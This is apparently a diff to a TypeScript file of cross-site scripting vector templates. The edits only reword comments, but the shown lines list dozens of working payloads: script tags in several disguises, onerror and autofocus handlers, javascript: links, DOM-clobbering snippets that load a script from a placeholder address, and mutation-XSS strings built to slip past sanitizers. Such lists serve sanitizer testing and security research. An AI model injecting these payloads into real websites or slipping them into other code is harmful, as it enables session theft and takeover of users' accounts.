@@ -1,6 +1,6 @@
 /** Vectors between tags. `xss-vectors.ts` explains the placeholders. */
 export const HTML_VECTORS = [
-  // Scripts, plain and disguised.
+  // Plain and disguised scripts.
   `<script>{js}</script>`,
   `<ScRiPt>{js}</sCrIpT>`,
   `<script/x>{js}</script>`,
@@ -14,7 +14,7 @@ export const HTML_VECTORS = [
   `<svg><script xlink:href="data:text/javascript,{js}"></script></svg>`,
   `<svg xmlns="http://www.w3.org/2000/svg"><style></style><script><![CDATA[{js}]]></script></svg>`,
 
-  // Handlers that run without a click.
+  // Event handlers that run without a click.
   `<img src=x onerror={js}>`,
   `<img src=x onerror='{js}'>`,
   `<IMG SRC=x ONERROR={js}>`,
@@ -56,7 +56,7 @@ export const HTML_VECTORS = [
   `<input type=image src=x onerror={js}>`,
   `<xss onfocus={js} autofocus tabindex=1>x</xss>`,
 
-  // Addresses that the page opens or links to.
+  // Addresses that the page opens or links.
   `<meta http-equiv=refresh content="0;url={page}">`,
   `<base href="{base}"><script src="a.js"></script>`,
   `<form action="javascript:{js}"><button id=go>x</button></form>`,
@@ -69,14 +69,14 @@ export const HTML_VECTORS = [
   `<svg width=99 height=99><a><animate attributeName=href values="javascript:{js}" /><text id=go y=20>x</text></a></svg>`,
   `<map name=m><area id=go shape=rect coords=0,0,99,99 href="javascript:{js}"></map><img usemap=#m width=99 height=99 src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">`,
 
-  // DOM clobbering: names and ids that replace a script's variables.
+  // Names and ids that replace a script's variables (DOM clobbering).
   `<a id=config></a><a id=config name=file href="{file}"></a><script>const s=document.createElement("script");s.src=config.file;document.body.append(s)</script>`,
   `<form id=application name=fetch><input name=elements></form><img src=x onerror="{js}">`,
   `<a id=xssed href="javascript:{js}"></a><script>location=xssed</script>`,
   `<iframe name=settings srcdoc="<a id=src href='{file}'></a>" onload="import(settings.src)"></iframe>`,
 ];
 
-/** Mutation XSS: HTML that changes its meaning when it is parsed, serialized and parsed again. */
+/** HTML that changes its meaning when it is parsed, serialized and parsed again (mutation XSS). */
 export const MUTATION_VECTORS = [
   `<noscript>&lt;/noscript&gt;<i title="</noscript><svg onload={js}>"></noscript>`,
   `<noscript><style></noscript><img src=x onerror={js}></style>`,
@@ -122,7 +122,7 @@ export const REREAD_VECTORS = [
   `<noscript><style></noscript><img src=x onerror={js}></style></noscript>`,
 ];
 
-/** For old browsers, or blocked by Chromium itself. */
+/** Vectors that run only in old browsers, or that Chromium blocks. */
 export const LEGACY_HTML_VECTORS = [
   `<img src="javascript:{js}">`,
   `<object data="javascript:{js}"></object>`,
